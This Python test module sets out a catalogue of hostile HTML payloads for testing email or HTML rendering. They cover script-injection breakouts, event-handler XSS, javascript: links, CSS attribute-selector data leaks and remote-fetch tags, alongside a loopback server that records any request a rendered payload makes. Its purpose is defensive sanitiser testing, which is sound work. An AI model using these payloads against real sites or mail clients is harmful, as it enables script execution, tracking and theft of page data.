"""Texts that try to run, to fetch and to lead away, and a server that notices when one of them does."""

from __future__ import annotations

import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager

# What a text does when it runs. It has no double quotes, because it is used in attributes.
CANARY = "top.pwned=1;document.title='pwned';console.log('pwned');new Image().src='URL/canary';alert('pwned')"
SCRIPT = f"<script>{CANARY}</script>"
PIXEL = "data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA="

# Each is alone in an email, so that none hides behind another's open tag. URL is the trap's.
HOSTILE = (
    SCRIPT,
    "<script src='URL/script'></script><script type=module src='URL/module'></script>",
    '<script type=speculationrules>{"prefetch":[{"urls":["URL/speculation"]}]}</script>',
    f'<img src="URL/img" srcset="URL/srcset 2x" onerror="{CANARY}">',
    f'<img src=URL/odd"quote\' onerror="{CANARY}">',
    f'<svg onload="{CANARY}"><image href="URL/image"/><use href="URL/use#a"/><script>{CANARY}</script></svg>',
    f'</iframe>{SCRIPT}<iframe srcdoc="',
    f'"></iframe>{SCRIPT}',
    f"'></iframe>{SCRIPT}",
    f"&quot;&gt;&lt;/iframe&gt;&lt;script&gt;{CANARY}&lt;/script&gt;",
    f"</style></title></textarea></template></details></section>{SCRIPT}",
    f"]]>{SCRIPT}<![CDATA[{SCRIPT}]]>",
    f"<!-->{SCRIPT}--><!--{SCRIPT}",
    f'<body onload="{CANARY}" onpageshow="{CANARY}">',
    f'<details open ontoggle="{CANARY}"><summary>a</summary></details>',
    f'<input autofocus onfocus="{CANARY}"><video onerror="{CANARY}"><source src=x></video>',
    f"<template shadowrootmode=open>{SCRIPT}</template>",
    f'<iframe srcdoc="&lt;script&gt;{CANARY}&lt;/script&gt;"></iframe><iframe src="javascript:{CANARY}"></iframe>',
    f'<a href="javascript:{CANARY}">run</a> <a href="data:text/html,{SCRIPT}" target=_top>data</a>',
    "<a href=URL/link>here</a> <a href=URL/blank target=_blank ping=URL/ping>new</a>",
    "<a href=URL/top target=_top>top</a> <a href=URL/parent target=_parent>parent</a>",
    "<a href=URL/self target=_self>self</a>",
    '<svg width=80 height=30><a href="URL/svg" target="_top"><text y="20">drawn</text></a></svg>',
    f"<img usemap=#m src={PIXEL} width=40 height=40><map name=m><area shape=default href=URL/area target=_top></map>",
    '<meta http-equiv="refresh" content="0;url=URL/refresh">',
    "<base href=URL/base/ target=_top><img src=relative.png><a href=relative>relative</a>",
    "<form action=URL/form target=_top><input name=a value=b><button>send</button></form>",
    "<form action=URL/post method=post><input type=image src=URL/button><input type=submit></form>",
    "<style>@import 'URL/import'; @font-face{font-family:x;src:url(URL/font)} p{font-family:x}"
    "body{background:url(URL/background)} input[value^=s]{background:url(URL/stolen)}</style>"
    "<p style='background-image:url(URL/inline)'>a</p><input value=secret>",
    "<link rel=stylesheet href=URL/css><link rel=icon href=URL/icon><link rel=manifest href=URL/manifest>",
    "<link rel=preconnect href=URL><link rel=dns-prefetch href=URL>",
    "<LINK\n/rel='preconnect' href=URL/x\"y'>",
    "<link rel=prefetch href=URL/prefetch><link rel=preload as=image href=URL/preload>"
    "<link rel=modulepreload href=URL/modulepreload><link rel=prerender href=URL/prerender>",
    "<iframe src=URL/frame></iframe><object data=URL/object></object><embed src=URL/embed>",
    "<video src=URL/video poster=URL/poster autoplay></video><audio src=URL/audio autoplay></audio>",
    "<table background=URL/table><tr><td background=URL/cell>a</td></tr></table>",
    "<picture><source srcset=URL/source><img></picture>",
    "<div style='position:fixed;inset:0;z-index:2147483647;background:#fff url(URL/cover)'>covered</div>",
    "<noscript><img src=URL/noscript></noscript><math href=URL/math><mtext>m</mtext></math>",
)


class Trap:
    """A server on loopback that counts who comes. `seen`: the first line of each request, empty for a bare
    connection."""

    def __init__(self, listener: socket.socket) -> None:
        self._listener = listener
        self.url = f"http://127.0.0.1:{listener.getsockname()[1]}"
        self.seen: list[str] = []

    def serve(self) -> None:
        """Until the listener is closed: notes each connection at once, then what it asks for."""
        while True:
            try:
                connection, _ = self._listener.accept()
            except OSError:
                return
            place = len(self.seen)
            self.seen.append("")
            with connection:
                connection.settimeout(0.2)
                try:
                    self.seen[place] = connection.recv(4096).decode("latin-1").split("\r\n")[0]
                    connection.sendall(b"HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n")
                except OSError:
                    continue

    def armed(self, text: str) -> str:
        """`text` with the address of this trap."""
        return text.replace("URL", self.url)


@contextmanager
def trap() -> Iterator[Trap]:
    """A trap that is open."""
    with socket.create_server(("127.0.0.1", 0)) as listener:
        found = Trap(listener)
        thread = threading.Thread(target=found.serve, daemon=True)
        thread.start()
        yield found
        # Closing alone does not wake a thread that waits in accept.
        listener.shutdown(socket.SHUT_RDWR)
    thread.join(timeout=10)
